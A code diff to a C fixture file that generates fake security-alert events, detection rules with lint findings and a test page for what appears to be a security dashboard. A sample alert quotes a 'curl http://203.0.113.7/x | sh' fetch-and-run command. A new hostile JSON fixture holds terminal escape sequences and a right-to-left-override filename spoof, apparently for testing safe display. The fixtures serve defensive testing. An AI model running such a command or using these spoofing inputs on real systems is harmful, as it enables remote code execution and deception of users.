@@ -11,6 +11,8 @@
     "rg-shop/providers/Microsoft.Compute/virtualMachines/vm-web-01"
 
 /* A list never has more of these than a person could have made. */
+#define N(table) (sizeof(table) / sizeof((table)[0]))
+
 static size_t few(const struct fake *fake)
 {
     size_t n = fake_rows(fake);
@@ -53,6 +55,11 @@ static const char body_text[] =
     "\"ExtendedProperties\":{\"Attacker IP\":\"203.0.113.7\",\"Command\":"
     "\"curl http://203.0.113.7/x | sh\"},\"RemediationSteps\":[\"Isolate the "
     "machine.\",\"Look for other logins.\",\"Change the passwords.\"]}";
+
+/* Names that would write over the screen, or leave their quotes. */
+static const char hostile_body[] =
+    "{\"\\u001b[2Jcleared\":\"x\",\"it's\":1,\"\\u202efdp.exe\":2,"
+    "\"plain\":\"\\u001b]0;title\\u0007\",\"\":3,\"a\\nb\":4}";
 
 static void add_story(struct event_page *page)
 {
@@ -146,7 +153,8 @@ struct event_page *fake_event(const struct fake *fake, int64_t row)
     event->column[COLUMN_SOURCE] = STR("defender-alerts");
     event->column[COLUMN_OWNER] = STR("mara");
     event->column[COLUMN_TAGS] = STR("shop payment");
-    json_parse(str_of(body_text), &page->body, &err);
+    json_parse(str_of(fake->state == FAKE_HOSTILE ? hostile_body : body_text),
+               &page->body, &err);
     add_story(page);
     add_entities(fake, page);
     add_containables(fake, page);
@@ -154,6 +162,14 @@ struct event_page *fake_event(const struct fake *fake, int64_t row)
 }
 
 /* ---- rules ---- */
+
+static const struct lint_finding findings[] = {
+    {LINT_ADVICE, "healthy", "conditions 2",
+     "Severity is always there: the comparison with '' takes every event."},
+    {LINT_WARNING, "never", "conditions 1",
+     "It can never hold: Severity == 'High' and Severity == 'Low'. Take one of "
+     "them away."},
+};
 
 struct rule_page *fake_rules(const struct fake *fake)
 {
@@ -178,6 +194,11 @@ struct rule_page *fake_rules(const struct fake *fake)
             .saved = FAKE_NOW - WHEN_DAY,
             .actions = "mail, contain vm-deallocate",
         };
+        if (i % 4 == 1) {
+            row->findings = findings;
+            row->n_findings = N(findings);
+            row->n_warnings = 1;
+        }
         for (size_t k = 0; k < 24; k++)
             row->hourly[k] = (uint32_t)((i + 1) * k * k % 9);
     }
@@ -228,6 +249,12 @@ struct test_page *fake_test(const struct fake *fake)
     page->rows = arena_array(page->arena, page->n, sizeof(*page->rows));
     memcpy(page->rows, rows, sizeof(rows));
     page->would = "waits for approval: stop vm-web-01";
+    page->lint.arena = page->arena;
+    if (fake->state != FAKE_MANY)
+        return page;
+    page->lint.items = arena_array(page->arena, 2, sizeof(*page->lint.items));
+    memcpy(page->lint.items, findings, sizeof(findings));
+    page->lint.n = N(findings);
     return page;
 }
 
